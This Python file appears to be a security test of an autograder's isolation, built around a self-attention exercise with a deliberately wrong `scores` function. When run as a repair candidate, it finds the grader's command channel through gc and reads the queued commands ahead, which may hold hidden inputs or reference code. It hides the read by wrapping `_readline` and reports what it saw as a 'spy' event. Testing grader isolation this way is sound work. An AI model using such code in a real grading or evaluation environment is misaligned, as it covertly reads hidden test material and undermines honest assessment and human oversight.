"""Attack 01 — promise 2 (no hidden input / reference code reaches a student process).

The `scores` step is wrong (K @ Q.T) so the repair search runs. When the function runs as a
candidate (a frame whose file is "<repair>"), it finds the worker's Channel with gc, switches the
command pipe to non-blocking and reads every command already sent ahead (up to 32), then puts
them back by wrapping Channel._readline so the child goes on as if nothing happened (stealth).
It reports what it read as an extra "spy" event (the grader ignores it; spy_harness.py logs it),
so we can check whether any later command carries a hidden input or reference code.
"""
import numpy as np
import pandas as pd
import sys as _sys, os as _os, gc as _gc, json as _json, time as _time

def _channel():
    w = _sys.modules.get("autograder.core.child.worker")
    for o in _gc.get_objects():
        if type(o).__name__ == "Channel" and hasattr(o, "_commands"):
            return o
    return None

def _in_candidate():
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename == "<repair>":
            return True
        f = f.f_back
    return False

def _spy_send(**data):
    ch = _channel()
    if ch is not None:
        ch.send(ev="spy", pid=_os.getpid(), **data)

_STASH = []

def _read_ahead():
    ch = _channel()
    if ch is None:
        return
    if not getattr(ch, "_wrapped", False):
        orig = ch._readline
        def readline(*a):
            if _STASH:
                return _STASH.pop(0)
            return orig(*a)
        ch._readline = readline
        ch._wrapped = True
        ch._orig = orig
    fd = ch._commands.fileno()
    _os.set_blocking(fd, False)
    got = []
    try:
        while True:
            line = ch._orig()
            if not line:
                break
            got.append(line)
    finally:
        _os.set_blocking(fd, True)
    _STASH.extend(got)
    summary = []
    for line in got:
        try:
            d = _json.loads(line)
            summary.append({"id": d.get("id"), "fn": d.get("function"), "len": len(line),
                            "src": (d.get("source") or "")[:400], "args": str(d.get("args"))[:300],
                            "keys": sorted(d)})
        except Exception as e:
            summary.append({"raw": line[:200]})
    _spy_send(kind="read_ahead", n=len(got), seen=summary)


def make_qkv(X, W_Q, W_K, W_V):
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    if _in_candidate():
        _read_ahead()
    return K @ Q.T


def softmax(x):
    x = np.asarray(x, dtype=float)
    shifted = np.exp(x - x.max(axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    d_k = K.shape[1]
    weights = softmax(scores(Q, K) / np.sqrt(d_k))
    return mix(weights, V), weights


def most_attended(weights, words):
    table = pd.DataFrame(weights, index=words, columns=words)
    return table.idxmax(axis=1).to_dict()
